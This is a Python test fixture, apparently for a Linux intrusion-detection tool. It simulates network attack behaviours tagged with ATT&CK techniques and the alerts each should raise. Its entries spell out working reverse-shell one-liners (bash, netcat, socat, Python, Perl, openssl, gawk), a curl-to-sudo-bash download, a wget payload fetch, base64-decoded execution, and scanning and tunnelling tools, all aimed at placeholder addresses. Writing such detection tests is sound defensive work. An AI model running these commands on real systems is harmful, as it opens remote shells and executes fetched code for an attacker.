"""Shells over the network, listeners, tunnels, sniffers (ATT&CK T1059, T1095, T1040, T1205, T1572).

No connection leaves the host: its loopback interface has the addresses of the far side, too.
"""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour, Process


def shown(name: str, *arguments: str) -> Process:
    """A program that only shows a command line; it does nothing of what that says."""
    return Process(f"/usr/lib/shown/{name}", arguments)


def command_line(name: str, technique: str, does: str, mark: str, arguments: tuple[str, ...], *more: str) -> Behaviour:
    return Behaviour(
        name=f"reverse_shell_by_{name}",
        techniques=(technique, "T1095"),
        does=does,
        marks=(mark,),
        raises=("process_reverse_shell_command_line", *more),
        processes=(shown(name, *arguments),),
    )


BEHAVIOURS = (
    command_line(
        "bash_device",
        "T1059.004",
        "Bash is told to be interactive over its network device.",
        "203.0.113.71/4001",
        ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.71/4001 0>&1"),
    ),
    command_line(
        "netcat",
        "T1059.004",
        "Netcat starts a shell for whom it connects to.",
        "203.0.113.72",
        ("nc", "203.0.113.72", "4002", "-e", "/bin/sh"),
    ),
    command_line(
        "named_pipe",
        "T1059.004",
        "A named pipe ties a shell to netcat.",
        "203.0.113.73",
        ("sh", "-c", "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.73 4003 >/tmp/f"),
    ),
    command_line(
        "socat",
        "T1059.004",
        "socat ties a shell with a terminal to a connection.",
        "203.0.113.74",
        ("socat", "exec:bash -li,pty,stderr,setsid", "tcp:203.0.113.74:4004"),
    ),
    command_line(
        "python",
        "T1059.006",
        "Python ties a shell to a socket.",
        "203.0.113.75",
        (
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.75',4005));os.dup2(s.fileno(),0);pty.spawn('sh')",
        ),
        "process_terminal_made_for_shell",
    ),
    command_line(
        "perl",
        "T1059",
        "Perl ties a shell to a socket.",
        "203.0.113.76",
        (
            "perl",
            "-e",
            "use Socket;socket(S,2,1,6);connect(S,sockaddr_in(4006,inet_aton('203.0.113.76')));open(STDIN,'>&S');exec('/bin/sh -i');",
        ),
    ),
    command_line(
        "openssl",
        "T1059.004",
        "A shell talks through an encrypted connection of openssl.",
        "203.0.113.77",
        ("sh", "-c", "openssl s_client -quiet -connect 203.0.113.77:443 < /tmp/p | /bin/sh > /tmp/p"),
    ),
    command_line(
        "awk",
        "T1059",
        "awk reads commands from a network file.",
        "203.0.113.78",
        (
            "gawk",
            'BEGIN{s="/inet/tcp/0/203.0.113.78/4008";while(1){s |& getline c;while((c |& getline l)>0)print l |& s}}',
        ),
    ),
    Behaviour(
        name="shell_talks_over_socket",
        techniques=("T1059.004", "T1095"),
        does="A shell has a connection to a distant machine as input and output.",
        marks=("11.22.33.72", "sh -s shell-over-socket"),
        raises=("process_shell_network_descriptors", "socket_shell_connection", "process_shell_holds_connection"),
        shell="ip addr add 11.22.33.72/32 dev lo",
        processes=(
            Process("/usr/lib/shown/far-side-72", ("/usr/lib/shown/far-side-72",), ("serve 11.22.33.72:4444",)),
            Process(
                "/usr/lib/shown/near-side-72",
                ("/usr/lib/shown/near-side-72",),
                ("shell 11.22.33.72:4444 /bin/sh sh -s shell-over-socket",),
            ),
        ),
    ),
    Behaviour(
        name="netcat_listens",
        techniques=("T1059.004", "T1095"),
        does="A program named nc waits for a connection.",
        marks=("listen-4445", "4445"),
        raises=("socket_netcat_listening",),
        processes=(Process("/usr/lib/shown/nc", ("nc", "-lvnp", "4445", "listen-4445"), ("listen tcp :4445",)),),
    ),
    Behaviour(
        name="python_serves_files",
        techniques=("T1048",),
        does="A file server of one line gives a directory to everybody.",
        marks=("http.server",),
        raises=("socket_interpreter_listening",),
        processes=(Process("/usr/lib/shown/python3", ("python3", "-m", "http.server", "8011"), ("listen tcp :8011",)),),
    ),
    Behaviour(
        name="program_in_tmp_talks_to_the_network",
        techniques=("T1105", "T1095"),
        does="A program in /tmp holds a connection to a distant machine.",
        marks=("/tmp/beacon",),
        raises=("socket_temporary_program_connection", "process_running_temporary_directory"),
        shell="ip addr add 11.22.33.73/32 dev lo",
        processes=(
            Process("/usr/lib/shown/far-side-73", ("/usr/lib/shown/far-side-73",), ("serve 11.22.33.73:443",)),
            Process("/tmp/beacon", ("/tmp/beacon",), ("dial 11.22.33.73:443",)),
        ),
    ),
    Behaviour(
        name="packet_sniffer_in_opt",
        techniques=("T1040", "T1205.002"),
        does="A program in a home reads all packets.",
        marks=("/home/leo/cap",),
        raises=("socket_raw_unusual_program",),
        processes=(Process("/home/leo/cap", ("/home/leo/cap",), ("packet",)),),
    ),
    Behaviour(
        name="backdoor_waits_for_magic_ping",
        techniques=("T1205.002", "T1095"),
        does="A program in /var/lib reads all ICMP packets.",
        marks=("/var/lib/misc/icmpd",),
        raises=("socket_raw_unusual_program",),
        processes=(Process("/var/lib/misc/icmpd", ("icmpd",), ("raw",)),),
    ),
    Behaviour(
        name="web_server_runs_commands_of_a_visitor",
        techniques=("T1505.003", "T1059.004"),
        does="A shell below the web server looks round on the host.",
        marks=("sleep 100002; whoami",),
        raises=("process_web_server_reconnaissance",),
        processes=(
            Process(
                "/usr/lib/shown/nginx",
                ("nginx: worker process",),
                ("name nginx",),
                uid=33,
                children=(Process("/bin/sh", ("sh", "-c", "sleep 100002; whoami"), None, uid=33),),
            ),
        ),
    ),
    Behaviour(
        name="web_server_fetches_a_program",
        techniques=("T1505.003", "T1105"),
        does="A shell below PHP fetches a program into /tmp.",
        marks=("sleep 100003; wget",),
        raises=("process_web_server_reconnaissance",),
        processes=(
            Process(
                "/usr/lib/shown/php-fpm",
                ("php-fpm: pool www",),
                ("name php-fpm",),
                uid=33,
                children=(
                    Process(
                        "/bin/sh", ("sh", "-c", "sleep 100003; wget http://203.0.113.79/x -O /tmp/x"), None, uid=33
                    ),
                ),
            ),
        ),
    ),
    Behaviour(
        name="download_piped_to_shell",
        techniques=("T1105", "T1059.004"),
        does="A shell waits for what curl fetches for it.",
        marks=("203.0.113.80/install",),
        raises=("process_download_piped_to_shell",),
        processes=(shown("sh-pipe", "sh", "-c", "curl -fsSL http://203.0.113.80/install | sudo bash"),),
    ),
    Behaviour(
        name="command_line_decodes_itself",
        techniques=("T1027", "T1140", "T1059.004"),
        does="A command line decodes its command and hands it to a shell.",
        marks=("c2xlZXAgOQo",),
        raises=("process_encoded_command_line",),
        processes=(shown("sh-decode", "sh", "-c", "echo c2xlZXAgOQo= | base64 -d | bash"),),
    ),
    Behaviour(
        name="python_runs_packed_code",
        techniques=("T1027", "T1140", "T1059.006"),
        does="Python runs code that it decodes.",
        marks=("cGFzcwo",),
        raises=("process_encoded_command_line",),
        processes=(shown("python-packed", "python3", "-c", "import base64;exec(base64.b64decode('cGFzcwo='))"),),
    ),
    Behaviour(
        name="tunnel_tool_runs",
        techniques=("T1572",),
        does="A program with the name of a tunnel runs.",
        marks=("chisel",),
        raises=("process_attack_tool",),
        processes=(Process("/opt/net/chisel", ("chisel", "client", "203.0.113.81:80", "R:socks")),),
    ),
    Behaviour(
        name="network_scanner_runs",
        techniques=("T1046",),
        does="A program with the name of a scanner for whole networks runs.",
        marks=("masscan",),
        raises=("process_attack_tool",),
        processes=(Process("/opt/net/masscan", ("masscan", "-p22", "10.0.0.0/8")),),
    ),
    Behaviour(
        name="script_looks_for_ways_to_root",
        techniques=("T1046",),
        does="A well known script that looks for ways to root runs.",
        marks=("/opt/net/linpeas.sh",),
        raises=("process_attack_tool",),
        files={"/opt/net/linpeas.sh": "sleep 100004\n:\n"},
        processes=(Process("/bin/bash", ("bash", "/opt/net/linpeas.sh", "-a"), None),),
    ),
    Behaviour(
        name="python_runs_code_from_standard_input",
        techniques=("T1059.006", "T1620"),
        does="Python runs code that came over standard input and is connected to a distant machine.",
        marks=("11.22.33.75",),
        raises=("process_interpreter_without_script_connected",),
        shell="ip addr add 11.22.33.75/32 dev lo",
        processes=(
            Process("/usr/lib/shown/far-side-75", ("/usr/lib/shown/far-side-75",), ("serve 11.22.33.75:443",)),
            Process("/usr/lib/shown/python3.12", ("python3", "-"), ("dial 11.22.33.75:443",)),
        ),
    ),
)
